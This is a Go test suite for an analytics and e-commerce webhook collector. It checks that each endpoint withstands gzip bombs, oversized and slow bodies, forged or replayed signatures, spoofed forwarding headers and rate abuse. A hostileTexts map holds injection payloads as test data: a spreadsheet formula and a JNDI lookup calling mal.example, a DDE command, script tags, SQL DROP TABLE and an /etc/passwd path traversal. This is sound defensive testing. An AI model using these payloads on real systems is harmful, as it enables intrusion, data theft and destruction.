package collector

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/formaouest/chaland/collector/tracking"
	"github.com/formaouest/chaland/warehouse"
)

// door is one way in, and how it says yes and no.
type door struct {
	name, path, method string
	body               func(site, text string) string // an event, or an order, that says text
	headers            func(body string) []string     // nil for none
	taken              int                            // status of what counts
	invalid            int                            // of what is refused: some vendors always say yes
	unread             int                            // of what is no request at all
	large              int                            // of a body that is too large
	pages              bool                           // pages of any site may send here
}

// doors are all of them.
func doors() []door {
	signed := func(header string, encode func([]byte) string) func(string) []string {
		return func(body string) []string { return []string{header, encode(mac(body))} }
	}
	b64 := base64.StdEncoding.EncodeToString
	event := func(site, text string) string {
		return fmt.Sprintf(`{"site":%q,"name":"page_view","url":"https://marche.fr/p","title":%s}`, site, text)
	}
	return []door{
		{"tag", "/collecte", "POST", event, nil, 202, 400, 400, 413, true},
		{"plausible", "/api/event", "POST", func(site, text string) string {
			return fmt.Sprintf(`{"n":"pageview","u":"https://marche.fr/p","d":%q,"p":{"x":%s}}`, site, text)
		}, nil, 202, 202, 400, 413, true},
		{"matomo", "/matomo.php", "POST", func(site, text string) string {
			return url.Values{"idsite": {site}, "rec": {"1"}, "url": {"https://marche.fr/p"}, "action_name": {text}}.Encode()
		}, nil, 200, 400, 400, 400, true},
		{"matomo bulk", "/piwik.php", "POST", func(site, text string) string {
			return fmt.Sprintf(`{"requests":[{"idsite":%q,"rec":"1","url":"https://marche.fr/p","action_name":%s}]}`, site, text)
		}, nil, 200, 200, 400, 400, true},
		{"measurement protocol", "/mp/collect?measurement_id=G-BOL&api_secret=jeton-secret", "POST", func(_, text string) string {
			return `{"client_id":"1.2","events":[{"name":"page_view","params":{"page_location":"https://marche.fr/p","page_title":` + text + `}}]}`
		}, nil, 204, 204, 204, 204, true},
		{"gtag.js", "/g/collect?v=2&tid=G-BOL&cid=1.2&dl=https%3A%2F%2Fmarche.fr%2Fp", "POST", func(_, text string) string {
			return "en=page_view&ep.x=" + url.QueryEscape(text)
		}, nil, 204, 204, 204, 204, true},
		{"generic", "/webhooks/generic/generic", "POST", func(_, text string) string {
			return `{"id":"A-1","updated_at":"2026-03-14T10:00:00Z","total":10,"lines":[{"sku":"a","name":` + text + `,"total":10}]}`
		}, func(body string) []string { return []string{"X-Chaland-Signature", signedAt(time.Now(), body)} }, 202, 400, 400, 413, false},
		{"shopify", "/webhooks/shopify/shopify", "POST", func(_, text string) string {
			return `{"id":7,"created_at":"2026-03-14T10:00:00Z","updated_at":"2026-03-14T10:00:00Z","currency":"EUR","total_price":"10.00","total_tax":"0.00","financial_status":"paid","line_items":[{"sku":"a","title":` + text + `,"quantity":1,"price":"10.00"}]}`
		}, func(body string) []string {
			return append([]string{"X-Shopify-Topic", "orders/paid"}, signed("X-Shopify-Hmac-Sha256", b64)(body)...)
		}, 200, 200, 200, 413, false},
		{"woocommerce", "/webhooks/woocommerce/woocommerce", "POST", func(_, text string) string {
			return `{"id":8,"status":"completed","currency":"EUR","date_created_gmt":"2026-03-14T10:00:00","date_modified_gmt":"2026-03-14T10:00:00","total":"10.00","total_tax":"0.00","line_items":[{"name":` + text + `,"quantity":1,"total":"10.00","total_tax":"0.00","sku":"a"}],"refunds":[]}`
		}, func(body string) []string {
			return append([]string{"X-WC-Webhook-Topic", "order.updated"}, signed("X-WC-Webhook-Signature", b64)(body)...)
		}, 200, 200, 200, 413, false},
	}
}

func (d door) site(known bool) string {
	switch {
	case strings.HasPrefix(d.name, "matomo") && known:
		return "7"
	case strings.HasPrefix(d.name, "matomo"):
		return "77"
	case known:
		return market
	}
	return "inconnu"
}

func (d door) ask(t *testing.T, r *running, body string, headers ...string) (int, http.Header) {
	t.Helper()
	if d.headers != nil {
		headers = append(d.headers(body), headers...)
	}
	status, _, header := r.ask(t, d.method, d.path, body, headers...)
	return status, header
}

// besieged is a collector of the market with all its doors.
func besieged(t *testing.T, edit func(*Options)) *running {
	t.Helper()
	r := start(t, func(o *Options) {
		o.Connections = marketStalls()
		if edit != nil {
			edit(o)
		}
	})
	addMarket(t, r.w)
	r.collectOnce(t)
	return r
}

// collectOnce has the collector know the market.
func (r *running) collectOnce(t *testing.T) {
	t.Helper()
	if err := r.refreshSites(t.Context()); err != nil {
		t.Fatal(err)
	}
}

// Every door, each attack: what it answers, and that the next honest request is taken.
func TestEveryDoorHoldsAgainstEachAttack(t *testing.T) {
	t.Parallel()
	r := besieged(t, nil)
	var bomb bytes.Buffer
	z := gzip.NewWriter(&bomb)
	for range 200 { // 200 MB of nothing in 200 kB
		_, _ = z.Write(make([]byte, 1<<20))
	}
	_ = z.Close()
	for _, d := range doors() {
		t.Run(d.name, func(t *testing.T) {
			honest := d.body(d.site(true), `"Bol breton"`)
			check := func(attack string, want int, body string, headers ...string) http.Header {
				t.Helper()
				status, header := d.ask(t, r, body, headers...)
				if status != want || status != d.taken && header.Get("X-Chaland-Reason") == "" {
					t.Errorf("%s: %d %q, want %d", attack, status, header.Get("X-Chaland-Reason"), want)
				}
				return header
			}
			check("none", d.taken, honest)
			check("a body beyond the limit", d.large, honest+strings.Repeat(" ", 5<<20))
			check("a bomb", http.StatusUnsupportedMediaType, bomb.String(), "Content-Encoding", "gzip")
			check("bytes that are no text", d.unread, "\xff\xfe\x00{")
			if !strings.HasSuffix(d.name, "matomo") && d.name != "gtag.js" {
				check("nesting without end", d.unread, strings.Repeat(`{"events":[`, 50_000))
			}
			if d.headers == nil && !strings.HasPrefix(d.path, "/mp") && !strings.HasPrefix(d.path, "/g/") {
				if h := check("a site that is not ours", d.invalid, d.body(d.site(false), `"x"`)); !strings.HasPrefix(h.Get("X-Chaland-Reason"), "unknown_") {
					t.Errorf("an unknown site: %q", h.Get("X-Chaland-Reason"))
				}
			}
			if d.headers != nil {
				status, _, header := r.ask(t, d.method, d.path, honest+" ", d.headers(honest)...)
				if status != http.StatusUnauthorized || header.Get("X-Chaland-Reason") != "webhook_signature" {
					t.Errorf("a body that was not signed: %d %q", status, header.Get("X-Chaland-Reason"))
				}
				if status, _, header = r.ask(t, d.method, d.path+"x", honest, d.headers(honest)...); status != http.StatusUnauthorized || header.Get("X-Chaland-Reason") != "webhook_unknown" {
					t.Errorf("an address that was not given: %d %q", status, header.Get("X-Chaland-Reason"))
				}
			}
			check("none any more", d.taken, honest)
		})
	}
	r.flush(t)
	if got := countBy(t, r.w, "set_aside", "reason"); got["webhook_signature"] != 3 || got["webhook_unknown"] != 3 || got["too_large"] < 6 {
		t.Errorf("quarantine: %v", got)
	}
}

// Lists without end are refused whole, or cut with a warning.
func TestCountsAreBounded(t *testing.T) {
	t.Parallel()
	r := besieged(t, nil)
	item := func(n int, one string) string { return "[" + strings.TrimSuffix(strings.Repeat(one+",", n), ",") + "]" }
	many := url.Values{"idsite": {"7"}, "rec": {"1"}, "url": {"https://marche.fr/p"}}
	for i := range 5000 {
		many.Set(fmt.Sprint("dimension", i), "x")
	}
	for name, c := range map[string]struct {
		path, body string
		status     int
		reason     string
	}{
		"events":          {"/collecte", item(1001, `{}`), 400, "too_many"},
		"items":           {"/collecte", `{"site":"marche","name":"view_item","url":"https://marche.fr/","items":` + item(201, `{"sku":"a"}`) + `}`, 400, "too_many_items"},
		"Matomo requests": {"/matomo.php", `{"requests":` + item(1001, `"?idsite=7&rec=1"`) + `}`, 400, "too_many"},
		"GA4 events":      {"/mp/collect?measurement_id=G-BOL&api_secret=jeton-secret", `{"client_id":"1.2","events":` + item(26, `{"name":"a"}`) + `}`, 204, "too_many"},
		"gtag.js lines":   {"/g/collect?v=2&tid=G-BOL&cid=1.2", strings.Repeat("en=a\n", 5000), 204, "too_many"},
		"properties":      {"/matomo.php", many.Encode(), 200, ""},
		"orders":          {"/webhooks/generic/generic", `{"orders":` + item(501, `{}`) + `}`, 400, "webhook_too_many"},
		"lines": {"/webhooks/generic/generic", `{"id":"B-1","updated_at":"2026-03-14T10:00:00Z","total":10,"lines":` + item(10_001, `{"sku":"a","total":1}`) + `}`,
			400, "webhook_field"},
	} {
		headers := []string{"X-Chaland-Signature", signedAt(time.Now(), c.body)}
		status, _, header := r.post(t, c.path, c.body, headers...)
		if status != c.status || header.Get("X-Chaland-Reason") != c.reason {
			t.Errorf("%s: %d %q, want %d %q", name, status, header.Get("X-Chaland-Reason"), c.status, c.reason)
		}
	}
	r.flush(t)
	if n := scalar(t, r.w, "SELECT max(length(props)) FROM events"); n != 30 {
		t.Errorf("%d properties on an event", n)
	}
}

// What a shop has signed says the same when somebody sends it again, at once or later.
func TestAReplayedSignatureChangesNothing(t *testing.T) {
	t.Parallel()
	r := besieged(t, nil)
	newer := strings.NewReplacer("10:00:00", "11:00:00", `10.00`, `25.00`, `"total":10`, `"total":25`)
	for _, d := range doors() {
		if d.headers == nil {
			continue
		}
		old := d.body("", `"Bol"`)
		if d.name == "generic" { // what was overheard serves for five minutes
			at := time.Now().Add(-6 * time.Minute)
			if status, _, header := r.post(t, d.path, old, "X-Chaland-Signature", signedAt(at, old)); status != http.StatusUnauthorized || header.Get("X-Chaland-Reason") != "webhook_stale" {
				t.Errorf("an old signature: %d %q", status, header.Get("X-Chaland-Reason"))
			}
		}
		for i, body := range []string{old, newer.Replace(old), old, old} { // the last two are the replay
			if status, header := d.ask(t, r, body, "X-Shopify-Webhook-Id", fmt.Sprint(i)); status != d.taken {
				t.Errorf("%s: %d %q", d.name, status, header.Get("X-Chaland-Reason"))
			}
			if i != 2 {
				r.flush(t)
			}
		}
	}
	for id, o := range r.orders(t) {
		if o.TotalIncl != 2500 {
			t.Errorf("order %s: %d after a replay of its older state", id, o.TotalIncl)
		}
	}
	if n := len(r.orders(t)); n != 3 {
		t.Errorf("%d orders: %v, quarantine %v", n, r.orders(t), countBy(t, r.w, "set_aside", "detail"))
	}
}

// Who is no proxy of ours cannot say from where it speaks, nor in which country.
func TestForwardedAddressesOfStrangersAreNotBelieved(t *testing.T) {
	t.Parallel()
	for believed, trusted := range map[bool][]netip.Prefix{true: nil, false: {}} {
		r := besieged(t, func(o *Options) { o.Trusted = trusted })
		for i := range 3 {
			for _, d := range doors() {
				if d.headers != nil || d.name == "measurement protocol" { // servers speak for others
					continue
				}
				d.ask(t, r, d.body(d.site(true), `"x"`), "X-Forwarded-For", fmt.Sprintf("203.0.%d.7", 113+i), "Cf-Ipcountry", "BE")
			}
		}
		r.flush(t)
		visitors := scalar(t, r.w, "SELECT uniqExact(visitor) FROM events")
		countries := countBy(t, r.w, "events", "country")
		if believed && (visitors != 3 || countries["BE"] == 0) || !believed && (visitors != 1 || countries["BE"] != 0) {
			t.Errorf("believed %v: %d visitors, countries %v", believed, visitors, countries)
		}
	}
}

// One address that sends without end is asked to wait, by every door, and nobody else is.
func TestTheRateOfAnAddressIsBounded(t *testing.T) {
	t.Parallel()
	r := besieged(t, func(o *Options) { o.Rate, o.Burst = 1, 20 })
	for n, d := range doors() {
		greedy := fmt.Sprintf("198.51.100.%d", n)
		statuses := map[int]int{}
		var last http.Header
		for range 40 {
			status, header := d.ask(t, r, d.body(d.site(true), `"x"`), "X-Forwarded-For", greedy)
			statuses[status]++
			if status == http.StatusTooManyRequests {
				last = header
			}
		}
		if statuses[429] < 15 || statuses[d.taken] < 20 || last.Get("Retry-After") == "" || last.Get("X-Chaland-Reason") != "rate" || (last.Get("Access-Control-Allow-Origin") != "") != d.pages {
			t.Errorf("%s: %v, %v", d.name, statuses, last)
		}
		if status, _ := d.ask(t, r, d.body(d.site(true), `"x"`), "X-Forwarded-For", "192.0.2.77"); status != d.taken {
			t.Errorf("%s: a neighbour is answered %d", d.name, status)
		}
	}
	if n := r.Tally().Refused["rate"]; n < 9*15 {
		t.Errorf("%d are told to have been turned away", n)
	}
	for range 100 { // a shop's own server beside us
		if status, _ := doors()[0].ask(t, r, doors()[0].body(market, `"x"`)); status != http.StatusAccepted {
			t.Fatalf("this machine is answered %d", status)
		}
	}
}

// Who begins a request and goes on drop by drop is left.
func TestAnEndlessBodyIsLeft(t *testing.T) {
	t.Parallel()
	r := besieged(t, func(o *Options) { o.BodyPatience = 300 * time.Millisecond })
	for _, d := range doors() {
		conn, err := net.Dial("tcp", strings.TrimPrefix(r.url, "http://"))
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: x\r\nUser-Agent: %s\r\nContent-Length: 1000\r\n\r\n{", d.path, chrome)
		_ = conn.SetReadDeadline(time.Now().Add(5 * time.Second))
		began := time.Now()
		if n, err := conn.Read(make([]byte, 1000)); n == 0 {
			t.Errorf("%s: nothing after %s: %v", d.name, time.Since(began), err)
		}
	}
}

// Pages of any site may send by the doors of trackers, as their vendors let them; a browser
// that asks before is answered what it asks.
func TestPagesMaySendAsVendorsLetThem(t *testing.T) {
	t.Parallel()
	r := besieged(t, nil)
	const page = "https://www.marche.fr"
	for _, d := range doors() {
		status, _, asked := r.ask(t, http.MethodOptions, d.path, "", "Origin", page, "Access-Control-Request-Method", "POST", "Access-Control-Request-Headers", "content-type")
		_, said := d.ask(t, r, d.body(d.site(true), `"x"`), "Origin", page)
		if !d.pages {
			if said.Get("Access-Control-Allow-Origin") != "" || asked.Get("Access-Control-Allow-Origin") != "" {
				t.Errorf("%s is open to pages", d.name)
			}
			continue
		}
		cookies := d.name != "plausible" // the others' scripts send theirs along
		for what, h := range map[string]http.Header{"asked": asked, "sent": said} {
			origin := h.Get("Access-Control-Allow-Origin")
			if cookies && (origin != page || h.Get("Access-Control-Allow-Credentials") != "true" || !strings.Contains(strings.Join(h.Values("Vary"), ","), "Origin")) || !cookies && (origin != "*" || h.Get("Access-Control-Allow-Credentials") != "") {
				t.Errorf("%s, %s: %v", d.name, what, h)
			}
		}
		if status != http.StatusNoContent || !strings.Contains(asked.Get("Access-Control-Allow-Methods"), "POST") || !strings.EqualFold(asked.Get("Access-Control-Allow-Headers"), "content-type") {
			t.Errorf("%s: asked before, answered %d %v", d.name, status, asked)
		}
	}
}

// hostileTexts are JSON strings that harm who takes them for more than text.
var hostileTexts = map[string]string{
	"a formula":         `"=HYPERLINK(\"http://mal.example\",\"clic\")"`,
	"a command":         `"@SUM(1+1)*cmd|' /C calc'!A0"`,
	"HTML":              `"<script>alert('piege')</script><img src=x onerror=alert(1)>"`,
	"SQL":               `"'); DROP TABLE events; --"`,
	"a parameter":       `"{site:String} {ids:Array(String)} ?"`,
	"control":           `"a\u0000b\u0007\u001b[31m\r\nc"`,
	"a lone surrogate":  `"avant \ud800 après"`,
	"another":           `"\udfff\ud83d"`,
	"right to left":     `"\u202efdp.exe"`,
	"very long":         `"` + strings.Repeat("é", 60_000) + `"`,
	"bytes of no text":  "\"a\xff\xfe\xc0\x80b\"",
	"a path":            `"../../../etc/passwd"`,
	"a template":        `"{{.Secret}} ${jndi:ldap://mal.example/a}"`,
	"an invisible text": `"\u200b\ufeff"`,
}

// Whatever is sent as a text is stored as one, or refused, and nothing that was acknowledged
// stands in the way of what follows.
func TestHostileTextsAreTexts(t *testing.T) {
	t.Parallel()
	r := besieged(t, nil)
	for name, text := range hostileTexts {
		for _, d := range doors() {
			said := text
			if d.name == "matomo" || d.name == "gtag.js" { // forms, no JSON
				said = strings.Trim(text, `"`)
			}
			status, header := d.ask(t, r, d.body(d.site(true), said))
			if status != d.taken && status != d.invalid {
				t.Errorf("%s by %s: %d %q", name, d.name, status, header.Get("X-Chaland-Reason"))
			}
		}
	}
	r.flush(t)
	for _, check := range []string{
		"SELECT count() FROM events WHERE NOT isValidUTF8(title) OR NOT isValidUTF8(toString(props)) OR NOT isValidUTF8(path)",
		"SELECT count() FROM events WHERE match(concat(title, toString(mapValues(props))), '[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f]')",
		"SELECT count() FROM events WHERE lengthUTF8(title) > 500",
		"SELECT count() FROM orders WHERE NOT isValidUTF8(toString(line_name)) OR match(toString(line_name), '[\\x00-\\x08]')",
		"SELECT count() FROM set_aside WHERE NOT isValidUTF8(raw) OR NOT isValidUTF8(detail)",
	} {
		if n := scalar(t, r.w, check); n != 0 {
			t.Errorf("%d by %s", n, check)
		}
	}
	if n := scalar(t, r.w, "SELECT count() FROM events"); n < 50 {
		t.Errorf("only %d events are stored", n)
	}
	titles, err := warehouse.Select[tracking.Event](t.Context(), r.w, "SELECT * EXCEPT (day, inserted, batch, touch) FROM events WHERE title != ''", nil)
	if err != nil || !slices.ContainsFunc(titles, func(e tracking.Event) bool { return strings.HasPrefix(e.Title, "'); DROP TABLE") }) {
		t.Error("a title is not kept as it was sent", err)
	}
	if _, ok := r.sites.Find(t.Context(), market, time.Now()); !ok {
		t.Error("the market is gone")
	}
}
